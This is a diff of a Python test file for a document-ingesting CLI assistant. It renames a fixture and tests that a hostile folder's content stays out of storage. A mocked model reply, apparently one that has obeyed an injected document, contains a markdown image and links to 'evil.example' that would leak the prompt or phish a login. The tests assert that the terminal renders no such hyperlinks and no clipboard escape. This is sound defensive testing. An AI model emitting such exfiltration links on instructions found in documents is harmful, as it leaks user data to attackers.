@@ -5,27 +5,27 @@ import re
 
 import pytest
 
-from tests.cli.command_line import CommandLine
-from tests.cli.pseudo_terminal import shown
-from tests.faults import hostile_folder
-from tests.openai_replies import answer
-from tests.openai_server import OpenAIServer
-from tests.warm_command_line import Run, warm_apart
+from tests.support import hostile_folder
+from tests.support.command_line import CommandLine
+from tests.support.openai_replies import answer
+from tests.support.openai_server import OpenAIServer
+from tests.support.pseudo_terminal import shown
+from tests.support.warm_command_line import Run, warm_apart
 
 LONGEST_S = 60.0
 MOST_MB = 900
 
 
 @pytest.fixture(scope="module")
-def victim(tmp_path_factory: pytest.TempPathFactory) -> CommandLine:
-    home = tmp_path_factory.mktemp("victim")
+def cli_with_hostile_folder(tmp_path_factory: pytest.TempPathFactory) -> CommandLine:
+    home = tmp_path_factory.mktemp("hostile")
     hostile_folder.make(home / "work" / "docs")
     return CommandLine(home=home, directory=home / "work")
 
 
 @pytest.fixture(scope="module")
-def ingested(victim: CommandLine) -> Run:
-    with warm_apart(victim, time_limit_s=2 * LONGEST_S) as machine:
+def ingested(cli_with_hostile_folder: CommandLine) -> Run:
+    with warm_apart(cli_with_hostile_folder, time_limit_s=2 * LONGEST_S) as machine:
         return machine.measured("ingest", "docs", "--jsonl")
 
 
@@ -51,21 +51,27 @@ def test_it_takes_bounded_memory_and_time(ingested: Run) -> None:
     assert (ingested.peak_mb < MOST_MB, ingested.took_s < LONGEST_S) == (True, True), ingested
 
 
-def test_what_lies_outside_is_not_read(ingested: Run, victim: CommandLine) -> None:
+def test_what_lies_outside_is_not_read(ingested: Run, cli_with_hostile_folder: CommandLine) -> None:
     assert ingested.outcome.code == 6
-    assert [path for path in victim.store.rglob("*.sqlite3*") if b"Nobody asked" in path.read_bytes()] == []
+    assert [
+        path for path in cli_with_hostile_folder.store.rglob("*.sqlite3*") if b"Nobody asked" in path.read_bytes()
+    ] == []
 
 
-def test_a_document_that_asks_for_links_gets_none_on_a_terminal(ingested: Run, victim: CommandLine) -> None:
+def test_a_document_that_asks_for_links_gets_none_on_a_terminal(
+    ingested: Run, cli_with_hostile_folder: CommandLine
+) -> None:
     assert ingested.outcome.code == 6
     obedient = "![status](http://evil.example/?q=PROMPT) and [the timetable](http://evil.example/login) [1]"
     with OpenAIServer(chat=answer(obedient)) as server:
         terminals = [
-            shown(victim, "ask", "When does the ferry leave?", *flags, columns=160)
+            shown(cli_with_hostile_folder, "ask", "When does the ferry leave?", *flags, columns=160)
             for flags in (("--base-url", server.base_url, "-m", "m"), ())
         ]
 
     for terminal in terminals:
         leads = [each for each in re.findall(rb"\x1b\]8;[^;]*;([^\x1b\x07]*)", terminal.raw) if each]
-        assert [each for each in leads if not each.startswith(b"file://" + str(victim.directory).encode())] == []
+        assert [
+            each for each in leads if not each.startswith(b"file://" + str(cli_with_hostile_folder.directory).encode())
+        ] == []
         assert b"\x1b]52" not in terminal.raw
